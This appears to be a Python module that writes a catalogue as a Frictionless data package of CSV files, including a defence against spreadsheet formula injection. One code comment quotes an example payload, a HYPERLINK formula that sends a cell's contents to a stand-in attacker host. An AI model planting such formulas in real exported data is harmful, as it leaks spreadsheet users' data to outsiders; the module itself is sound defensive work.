"""The catalogue as a Frictionless data package: `datapackage.json` plus one CSV per table.

The tables, their columns and their order come from `schemas/`; the reference tables are copied as
they are, so the package is self-contained and `frictionless validate` can check every foreign key.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

from ..schema import Nested, Schema, Table, load_schema
from ..validate.validator import Result

# What makes a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as a formula, e.g.
# =HYPERLINK("https://evil.invalid/?d="&A2,"x") in a name. Such text gets a leading apostrophe in the CSV, which a
# spreadsheet shows as text and hides; numbers and phone numbers ("+45 70 10 20 30", "-3") stay as they are, having
# no function to call. The JSON formats (HSDS, GeoJSON, the feeds) keep every value exactly as written.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER_LIKE = re.compile(r"[+-]?[0-9 ().,/-]*")


def cell(value: object) -> str:
    """One value as Table Schema's default CSV formats read it back; text that a spreadsheet would run as a
    formula is made inert (see FORMULA_START)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER_LIKE.fullmatch(value):
        return "'" + value
    return str(value)


def table_rows(schema: Schema, kind: str, records: list[dict]) -> dict[str, Iterator[dict]]:
    """Rows of the record table for `kind` and of each nested child table, keyed by table name."""
    table = schema.record_table(kind)
    (pk,) = table.primary_key
    out: dict[str, Iterator[dict]] = {table.name: iter(records)}
    for n in schema.nested(table.name):
        out[n.table.name] = _child_rows(n, pk, records)
    return out


def _child_rows(n: Nested, pk: str, records: list[dict]) -> Iterator[dict]:
    parent = next(f.name for f in n.table.fields if f.source == "parent")
    for r in records:
        for item in r.get(n.key) or []:
            yield {parent: r[pk], n.value: item} if n.value else {parent: r[pk], **item}


def write_csv(path: Path, table: Table, rows: Iterator[dict]) -> int:
    names = [f.name for f in table.fields]
    n = 0
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(names)
        for row in rows:
            w.writerow([cell(row.get(name)) for name in names])
            n += 1
    return n


def write_package(result: Result, out: Path, schema: Schema | None = None) -> dict[str, int]:
    """Write the valid records of `result` to `out`; returns the row count of each table."""
    schema = schema or load_schema()
    out.mkdir(parents=True, exist_ok=True)
    counts: dict[str, int] = {}
    for kind in ("organisation", "service"):
        for name, rows in table_rows(schema, kind, result.records(kind)).items():
            counts[name] = write_csv(out / schema.tables[name].path, schema.tables[name], rows)
    for table in schema.reference_tables:
        shutil.copyfile(schema.root / table.path, out / table.path)
        counts[table.name] = len(schema.rows(table.name))
    for table in schema.tables.values():
        shutil.copyfile(schema.root / table.schema_path, out / table.schema_path)
    package = dict(schema.package)
    package["created"] = dt.datetime.now(dt.UTC).replace(microsecond=0).isoformat().replace("+00:00", "Z")
    (out / "datapackage.json").write_text(json.dumps(package, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
    return counts
